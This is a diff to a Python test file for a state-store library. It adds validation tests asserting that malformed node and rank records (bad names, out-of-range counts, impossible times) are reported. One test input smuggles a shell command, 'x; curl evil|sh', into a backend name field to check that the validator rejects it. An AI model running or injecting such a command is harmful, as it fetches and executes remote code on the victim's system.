@@ -36,6 +36,7 @@ from declarative.store import StateError, Store, Writer, open_store
 from declarative.store.check import Held, check
 from declarative.store.move import parse as typed
 from declarative.store.move import plan, renamed
+from declarative.store.validate import faults
 from declarative.store.whole import dump, parse
 from tests.model import of_node, of_volume
 from tests.recorded import LINEAGE, Draft, states
@@ -113,7 +114,7 @@ def example() -> tuple[State, dict[tuple[str, int], str]]:
         backend="local",
         generation=2,
         token=token(LINEAGE, other, 2, None),
-        inputs={},
+        inputs=of_volume(),
     )
     state = State(
         lineage=LINEAGE,
@@ -576,3 +577,32 @@ def test_history_follows_a_rename(store):
     assert [o.op for o in store.history(limit=2)] == ["update", "move"]
     assert store.history(["node/x"]) == []
     assert Path(store.url.removeprefix("sqlite:///")).exists()
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        (
+            {"inputs": of_node(backend="x; curl evil|sh", blocks=4)},
+            "node/gpu-0: `inputs.backend` is not a name",
+        ),
+        ({"inputs": of_node(blocks=10**7)}, "node/gpu-0: `inputs.blocks` is not a number from 1 to 1000000"),
+        ({"inputs": of_node("other", blocks=4)}, "node/gpu-0: `inputs.fleet` is not that of its name"),
+        ({"outputs": {"silent_since": 1e12}}, "node/gpu-0: `outputs.silent_since` is not a time"),
+        ({"backend": "another"}, "node/gpu-0: `backend` is not the `backend` of its inputs"),
+    ],
+)
+def test_a_record_that_is_none_of_ours_is_named(change, said):
+    """Names stand in the commands that hints say, numbers are counted with, times are shown."""
+    state, _ = example()
+    node = state.records[Address("node", "gpu-0")]
+    assert list(faults(state)) == [], "as it is"
+    wrong = replace(state, records={**state.records, node.address: replace(node, **change)})
+    assert said in list(faults(wrong))
+
+
+def test_a_time_that_no_calendar_has_is_named():
+    state, _ = example()
+    status = replace(state.ranks["train-0"], started_at=1e12)
+    found = list(faults(replace(state, ranks={"train-0": status}, idle_since={"gpu-0": -1.0})))
+    assert found == ["rank/train-0: `started_at` is not a time", "node/gpu-0: `idle_since` is not a time"]
